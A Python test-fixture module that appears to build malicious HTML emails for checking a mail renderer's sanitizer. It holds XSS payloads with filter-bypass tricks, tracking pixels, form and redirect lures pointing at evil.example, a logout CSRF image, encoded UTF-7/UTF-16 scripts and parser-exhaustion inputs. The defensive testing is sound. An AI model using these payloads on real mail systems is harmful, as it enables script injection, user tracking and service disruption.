"""HTML that means harm (security.md R01): kept as received, shown without it, read as text."""

from tests.integrations.corpus.case import EIGHT, Case, b64, case, mail

PWN = "window.__pwn=1"


def page(html: str, said: str | None = None) -> Case:
    """A mail of this HTML."""
    says = {"html": html} | ({} if said is None else {"text": said})
    return case(mail(html, EIGHT, kind="text/html; charset=utf-8"), **says)


CASES = {
    "script": page(f"<p>Hi</p><script>{PWN}</script>", "Hi"),
    "script-nested": page(f"<scr<script>ipt>{PWN}</scr</script>ipt>"),
    "script-unclosed": page(f"<p>Hi</p><script>{PWN}"),
    "handler": page(f'<img src=x onerror="{PWN}"><p>Hi</p>', "Hi"),
    "handler-entities": page(f'<a href="x" &#111;nclick="{PWN}">Hi</a>'),
    "javascript": page(f'<a href="javascript:{PWN}">Hi</a>', "Hi"),
    "javascript-tab": page(f'<a href="java\tscript:{PWN}">Hi</a>', "Hi"),
    "javascript-entity": page(f'<a href="&#106;avascript:{PWN}">Hi</a>', "Hi"),
    "data-page": page(f'<a href="data:text/html,<script>{PWN}</script>">Hi</a>'),
    "vbscript": page('<a href="vbscript:x">Hi</a>', "Hi"),
    "svg": page(f'<svg onload="{PWN}"><a xlink:href="javascript:{PWN}"><text>x</text></a></svg>'),
    "math": page("<math><mtext><table><mglyph><style><img src=x onerror=window.__pwn=1>"),
    "noscript": page(f'<noscript><p title="</noscript><img src=x onerror={PWN}>">'),
    "template": page(f"<template><script>{PWN}</script></template><p>Hi</p>"),
    "style": page("<style>@import 'http://evil.example/x.css'</style><p>Hi</p>", "Hi"),
    "base": page('<base href="http://evil.example/"><a href="x">Hi</a>', "Hi"),
    "refresh": page(
        '<meta http-equiv="refresh" content="0;url=http://evil.example"><p>Hi</p>', "Hi"
    ),
    "form": page('<form action="http://evil.example"><input name=p>Hi</form>'),
    "frame": page(f'<iframe srcdoc="<script>{PWN}</script>"></iframe><p>Hi</p>', "Hi"),
    "clobber": page('<a id="body" name="getElementById">Hi</a>', "Hi"),
    "comment": page(f"<!--[if mso]><script>{PWN}</script><![endif]--><p>Hi</p>", "Hi"),
    "cdata": page(f"<![CDATA[<script>{PWN}</script>]]><p>Hi</p>"),
    "pixel": page('<p>Hi</p><img src="http://evil.example/p.gif?id=1" width=1 height=1>', "Hi"),
    "srcset": page('<p>Hi</p><img srcset="//evil.example/p.gif 2x">', "Hi"),
    "background": page('<p style="background:url(http://evil.example/p.gif)">Hi</p>', "Hi"),
    "logout": page('<p>Hi</p><img src="/accounts/logout/">', "Hi"),
    "utf-7-script": case(
        mail(
            "+ADw-script+AD4-window.__pwn=1+ADw-/script+AD4-<p>Hi</p>",
            kind="text/html; charset=utf-7",
        ),
        html="<script>window.__pwn=1</script><p>Hi</p>",
        text="Hi",
    ),
    "utf-16-script": case(
        mail(
            b64("<script>window.__pwn=1</script><p>Hi</p>".encode("utf-16")),
            "Content-Transfer-Encoding: base64",
            kind="text/html; charset=utf-16",
        ),
        text="Hi",
    ),
    "deep": page("<div>" * 20_000 + "Hi"),
    "deep-quotes": page("<blockquote>" * 3_000 + "Hi"),
    "many-attributes": page("<p " + "a=1 " * 50_000 + ">Hi</p>", "Hi"),
    "never-a-tag": page("<" * 50_000),
    "entities": page("&lt;b&gt; &amp; &copy;&#8364;&#xfffe;&#0;&#xd800;"),
    "plain-canary": case(
        mail('"><img src=x onerror=__pwn(1)>{{7*7}}${7*7}'),
        text='"><img src=x onerror=__pwn(1)>{{7*7}}${7*7}',
        html=None,
    ),
    "subject-canary": case(
        mail("x", 'Subject: "><img src=x onerror=__pwn(1)>{{7*7}}'),
        subject='"><img src=x onerror=__pwn(1)>{{7*7}}',
    ),
}
